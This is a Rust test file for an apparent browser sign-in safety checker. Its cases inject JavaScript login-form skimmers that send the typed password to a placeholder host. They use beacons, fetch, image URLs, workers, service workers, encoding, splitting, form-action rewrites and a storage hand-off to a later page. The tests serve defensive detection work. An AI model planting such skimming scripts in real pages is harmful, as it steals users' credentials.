//! What a page sends elsewhere although nothing could be seen of it before is seen afterwards.

use okta_e2e::browser::{Danger, Landing};
use rstest::rstest;

use super::hostile::Hostile;

/// Does this when the form is submitted.
fn on_submit(what: &str) -> String {
    format!(
        "{{form}}<script>document.addEventListener('submit', (event) => {{\
         const word = document.querySelector('[type=password]').value; {what} }}, true)</script>"
    )
}

#[rstest]
#[case::by_a_request("fetch('{elsewhere}/x', { method: 'POST', mode: 'no-cors', body: word });")]
#[case::by_a_beacon("navigator.sendBeacon('{elsewhere}/x', word);")]
#[case::by_a_form_of_a_script(
    "const data = new URLSearchParams({ word }); navigator.sendBeacon('{elsewhere}/x', data);"
)]
#[case::in_an_address("new Image().src = '{elsewhere}/x?' + encodeURIComponent(word);")]
#[case::in_a_header("fetch('{elsewhere}/x', { headers: { 'x-word': word } });")]
#[case::in_three_pieces(
    "navigator.sendBeacon('{elsewhere}/x', word.slice(0, 8));\
     navigator.sendBeacon('{elsewhere}/x', word.slice(8, 16));\
     navigator.sendBeacon('{elsewhere}/x', word.slice(16));"
)]
#[case::from_its_end("navigator.sendBeacon('{elsewhere}/x', [...btoa(word)].reverse().join(''));")]
#[case::by_another_window("open('{elsewhere}/x#' + word);")]
#[case::by_a_redirect_of_the_org("event.target.action = '/away?{elsewhere}/login';")]
#[tokio::test]
async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
    let org = Hostile::showing(&on_submit(what)).await;
    let visited = org.sign_in().await;
    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
    assert_eq!(visited.passwords_submitted, 1);
}

/// An address ends in logs, of the org as well.
#[tokio::test]
async fn what_was_typed_is_seen_in_an_address_of_the_org() {
    let org = Hostile::showing(&on_submit("fetch('/x?' + encodeURIComponent(word));")).await;
    let visited = org.sign_in().await;
    let found = Vec::from_iter(&visited.sent_elsewhere);
    assert!(matches!(found[..], [one] if one.starts_with("an address of http://127.0.0.1")));
}

/// What nobody can read, and what the browser does not tell of, is said.
#[rstest]
#[case::in_a_form_of_its_own(
    "navigator.sendBeacon('{elsewhere}/x', new Uint8Array([...word].map((one) => \
     one.charCodeAt(0) ^ 85)));",
    "http://localhost:"
)]
#[case::by_a_worker(
    "const worker = new Worker(URL.createObjectURL(new Blob([\
     `onmessage = ({ data }) => fetch('{elsewhere}/x?' + data)`]))); worker.postMessage(word);",
    "a worker of http://127.0.0.1:"
)]
#[case::by_a_worker_that_outlives_the_page(
    "event.preventDefault(); const { serviceWorker } = navigator;\
     serviceWorker.register('/worker').then(() => serviceWorker.ready).then(({ active }) => {\
     active.postMessage(word); event.target.submit() });",
    "a worker of http://127.0.0.1:"
)]
#[tokio::test]
async fn what_cannot_be_read_is_told(#[case] what: &str, #[case] told: &str) {
    let org = Hostile::showing(&on_submit(what)).await;
    let visited = org.sign_in().await;
    assert!(
        visited.unread.iter().any(|one| one.starts_with(told)),
        "{:?}",
        visited.unread
    );
}

/// A form is seen as it is sent, whatever the page makes of it then.
#[rstest]
#[case::by_another_target("event.target.action = '{elsewhere}/login';")]
#[case::from_a_document_made_anew(
    "event.preventDefault(); document.open(); document.write('<form method=post action={elsewhere}/x>\
     <input name=word></form>'); document.close(); document.forms[0].word.value = word;\
     document.forms[0].submit();"
)]
#[tokio::test]
async fn what_a_form_would_send_elsewhere_is_kept_back(#[case] what: &str) {
    let org = Hostile::showing(&on_submit(what)).await;
    let visited = org.sign_in().await;
    assert_eq!(org.leaked(), Vec::<String>::new());
    let is_kept = matches!(
        &visited.landing,
        Ok(Landing::Untrusted { danger: Danger::Form, origin, .. }) if *origin == org.elsewhere
    );
    assert!(is_kept, "{:?}", visited.landing);
}

/// Before anything is submitted.
#[tokio::test]
async fn a_page_that_listens_is_seen_too() {
    let page = "{form}<script>addEventListener('input', (event) => {\
        new Image().src = '{elsewhere}/x?' + encodeURIComponent(event.target.value) })</script>";
    let org = Hostile::showing(page).await;
    let visited = org.sign_in().await;
    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
}

/// What was kept where it was typed goes elsewhere when the next page comes, for which nothing is.
#[tokio::test]
async fn a_later_page_that_sends_it_is_seen_too() {
    let keeps = on_submit("sessionStorage.setItem('kept', word);");
    let sends = "<h1>Welcome</h1><script>const kept = sessionStorage.getItem('kept');\
        if (kept) new Image().src = '{elsewhere}/x?' + encodeURIComponent(kept)</script>";
    let org = Hostile::showing(&format!("{keeps}{{second}}{sends}")).await;
    let visited = org.sign_in_and_go_on("/later").await;
    assert_eq!(org.at_other("GET /x").len(), 1, "the page sends nothing");
    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
}

#[rstest]
#[case::nothing("")]
#[case::something_else("navigator.sendBeacon('{elsewhere}/x', 'hello');")]
#[case::to_the_org("navigator.sendBeacon('/x', word);")]
#[tokio::test]
async fn nothing_else_is_held_against_a_page(#[case] what: &str) {
    let org = Hostile::showing(&on_submit(what)).await;
    let visited = org.sign_in().await;
    assert!(
        visited.sent_elsewhere.is_empty(),
        "{:?}",
        visited.sent_elsewhere
    );
    let is_quiet = !what.contains("{elsewhere}");
    assert_eq!(visited.unread.is_empty(), is_quiet, "{:?}", visited.unread);
}
